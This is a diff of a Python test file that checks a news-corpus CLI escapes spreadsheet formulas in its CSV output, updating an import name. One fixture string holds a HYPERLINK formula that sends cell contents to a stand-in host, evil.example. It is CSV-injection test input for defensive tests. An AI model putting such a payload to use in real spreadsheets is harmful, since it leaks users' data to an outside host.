@@ -13,7 +13,7 @@ from hypothesis import strategies as st
 from typer.testing import CliRunner
 
 from framing.cli import app
-from framing.corpus.cells import FORMULA_START, csv_safe_cell
+from framing.printable import FORMULA_STARTS, csv_safe_cell
 
 EVIL_HEADLINE = '=HYPERLINK("http://evil.example/?x="&A1,"Click") council vote'
 BODY = "\n\nThe city council approved the budget for the bridge on Monday, officials said.\n"
@@ -34,8 +34,8 @@ def test_other_cells_are_left_alone(value: object) -> None:
 @given(st.text(max_size=30))
 def test_a_safe_cell_never_starts_a_formula_and_keeps_the_text(text: str) -> None:
     safe = csv_safe_cell(text)
-    assert not safe.startswith(FORMULA_START)
-    assert safe == text or (safe == "'" + text and text.startswith(FORMULA_START))
+    assert not safe.startswith(FORMULA_STARTS)
+    assert safe == text or (safe == "'" + text and text.startswith(FORMULA_STARTS))
 
 
 @pytest.fixture
@@ -67,7 +67,7 @@ def test_csv_output_and_errors_file_are_neutralised_and_parquet_is_raw(corpus: P
     assert "'@plain.txt" in rows and rows["'@plain.txt"]["headline"] == "Council approves the bridge budget"
     assert rows["empty.txt"]["error"].startswith("'=arts/empty.txt: ")
     for row in rows.values():  # no cell of the CSV starts a formula
-        assert not any(isinstance(v, str) and v.startswith(FORMULA_START) for v in [*row.values(), *row.keys()])
+        assert not any(isinstance(v, str) and v.startswith(FORMULA_STARTS) for v in [*row.values(), *row.keys()])
     errors = _csv_rows(Path("r.errors.csv"))
     assert [(e["file"], e["error"][:17]) for e in errors] == [("'=arts/empty.txt", "'=arts/empty.txt:")]
     raw = pd.read_parquet("r.parquet").set_index("name")
